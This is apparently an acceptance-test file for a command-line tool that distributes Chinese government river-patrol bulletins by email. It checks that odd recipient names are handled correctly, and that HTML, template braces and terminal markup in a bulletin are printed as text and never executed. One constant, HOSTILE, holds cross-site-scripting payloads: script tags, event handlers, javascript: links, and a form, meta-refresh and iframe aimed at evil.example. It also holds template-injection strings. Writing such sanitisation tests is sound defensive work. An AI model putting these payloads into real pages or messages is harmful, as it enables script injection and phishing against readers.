"""Input that is odd and harmless by design (faults 47, 51, 52, 54): what arrives is what was written, once."""

from html.parser import HTMLParser

from distributor.cli.mailbox import Mailbox
from distributor.resources import shipped
from tests.acceptance.letterbox import Letter, by_address
from tests.acceptance.office import BULLETIN, Office

GOOD = BULLETIN.format(number=8)


def titled(title: str) -> str:
    return GOOD.replace("云岭区巡河工作快报", title)


def letters_of(office: Office, mailbox: Mailbox, text: str) -> dict[str, Letter]:
    """Sends a bulletin that has nothing wrong with it, and reads what arrived."""
    office.write("next.md", text)
    sent = office.ask("send", "next.md", "--yes")
    assert sent.code == 0, sent
    return by_address(mailbox)


def test_the_same_person_in_many_spellings_and_groups_gets_one_copy(office: Office, mailbox: Mailbox) -> None:
    """Fault 47: letter case, two groups, a Chinese domain in both its forms; the highest direction wins."""
    office.recipients(
        leaders=1,
        units=1,
        extra=[
            "      - unit: 单位9",
            "        people:",
            "          - {name: 联络员1, email: Unit1@Example.gov.cn}",
            "          - {name: 领导1, email: LEADER1@example.gov.cn}",
            "          - {name: 联络员9, email: lian@政务.cn}",
            "          - {name: 联络员9, email: lian@xn--zfr164b.cn}",
        ],
    )
    letters = letters_of(office, mailbox, GOOD)
    assert len(mailbox.received) == 3
    assert sorted(letters) == ["leader1@example.gov.cn", "lian@xn--zfr164b.cn", "unit1@example.gov.cn"]
    assert "呈上" in letters["leader1@example.gov.cn"].text
    told = office.ask("status", "8", "--json").json
    assert {copy["recipient"]: copy["credited"] for copy in told["deliveries"]}["leader1@example.gov.cn"] == ["各单位"]


def test_odd_but_honest_names_arrive_as_they_are(office: Office, mailbox: Mailbox) -> None:
    """Fault 51: quotes, path signs, brackets, an emoji."""
    names = ['王\\"老五\\"', "../../赵六", "<钱七>", "孙八, 李九", "周😀十", "[/red]吴"]
    rows = [f'          - {{name: "{name}", email: odd{n}@example.gov.cn}}' for n, name in enumerate(names)]
    office.recipients(leaders=1, units=1, extra=["      - unit: '[/b]局:100:'", "        people:", *rows])
    letters = letters_of(office, mailbox, GOOD)
    assert [letters[f"odd{n}@example.gov.cn"].to[0] for n in range(len(names))] == [
        name.replace('\\"', '"') for name in names
    ]
    for command in (("status", "8"), ("recipients", "list"), ("why", "odd5@example.gov.cn")):
        ran = office.ask(*command)
        assert ran.code == 0
        assert "[/red]吴" in ran.out
        assert "[/b]局:100:" in ran.out


HARMLESS = set("html head meta title style body table tbody tr td b i a br img div span p".split())


class Tags(HTMLParser):
    """Every tag and attribute of a page, as a browser finds them."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


HOSTILE = """\
<script>alert(1)</script>
<img src=x onerror="alert(2)">
<a href="javascript:alert(3)">甲</a> [乙](javascript:alert(4)) [丙](data:text/html;base64,PHNjcmlwdD4=)
<style>@import url(http://evil.example/x.css);</style>
<form action="http://evil.example"><input name="p"><button>签收</button></form>
<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example">
<svg onload="alert(5)"><math><mtext></mtext></math></svg> <!-- <!-- --> <iframe src="http://evil.example"></iframe>
"""


def test_html_in_a_bulletin_is_words_and_never_markup(office: Office, mailbox: Mailbox) -> None:
    """Fault 52."""
    text = GOOD.replace("编校：", HOSTILE.replace("\n", "\n\n") + "\n编校：")
    for letter in letters_of(office, mailbox, text).values():
        tags = Tags()
        tags.feed(letter.page)
        assert tags.names <= HARMLESS, tags.names - HARMLESS
        assert not [name for name, _ in tags.attributes if name.startswith("on")]
        targets = [value for name, value in tags.attributes if name in ("href", "src", "action", "background")]
        assert not [target for target in targets if not target.startswith(("mailto:", "cid:", "tel:"))]
        assert not [value for _, value in tags.attributes if "evil" in value or "javascript" in value]
        for body in (letter.plain, letter.shown):
            assert "<script>alert(1)</script>" in body
            assert '<imgsrc=xonerror="alert(2)">' in body


def test_braces_are_printed_and_never_computed(office: Office, mailbox: Mailbox) -> None:
    """Fault 54, in the title, the text, a name and a unit."""
    office.recipients(
        leaders=1,
        units=1,
        extra=[
            "      - unit: '{{ 6*6 }}局'",
            "        people:",
            "          - {name: '{% raw %}', email: b@example.gov.cn}",
        ],
    )
    text = titled("巡河{{7*7}}快报").replace("整改问题6处", "整改{{ 8*8 }}处，{% for x in y %}，{# 注 #}")
    letters = letters_of(office, mailbox, text)
    for letter in letters.values():
        assert letter.subject.startswith("巡河{{7*7}}快报")
        for body in (letter.plain, letter.shown):
            assert "巡河{{7*7}}快报" in body
            assert "整改{{8*8}}处，{%forxiny%}，{#注#}" in body
    assert letters["b@example.gov.cn"].to[0] == "{% raw %}"
    assert "{{6*6}}局" in letters["b@example.gov.cn"].plain


def test_marks_of_the_terminal_are_printed_and_never_obeyed(office: Office, mailbox: Mailbox) -> None:
    """Square brackets and colons mean something to the library that draws tables and bars."""
    text = titled("巡河[/]快报:100:").replace("编校：周明", "编校：[/red]周明").replace("报：区委", "报：[bold]区委")
    letters = letters_of(office, mailbox, text)
    assert {letter.subject for letter in letters.values()} == {"巡河[/]快报:100: 第8期（2026年11月20日）"}
    for command in (("check", "next.md"), ("status",), ("status", "8"), ("why", "领导1")):
        ran = office.ask(*command)
        assert ran.code == 0
        assert "巡河[/]快报:100:" in ran.out


def test_a_bulletin_finalised_through_a_link_is_the_bulletin_it_links_to(office: Office, mailbox: Mailbox) -> None:
    """Its pictures lie beside the text, not beside the link; by its number it is read where it is."""
    picture = shipped("examples") / "pictures" / "water-quality.png"
    office.write("archive/river.png", "").write_bytes(picture.read_bytes())
    text = BULLETIN.format(number=7).replace("编校", "![河](river.png)\n\n编校")
    (office.folder / "bulletin.md").unlink()
    (office.folder / "bulletin.md").symlink_to(office.write("archive/7.md", text))
    assert office.ask("finalise", "bulletin.md").code == 0
    assert office.ask("send", "7", "--only", "领导1", "--yes").code == 0
    assert office.ask("send", "bulletin.md", "--yes").code == 0
    assert {len(letter.pictures) for letter in by_address(mailbox).values()} == {1}
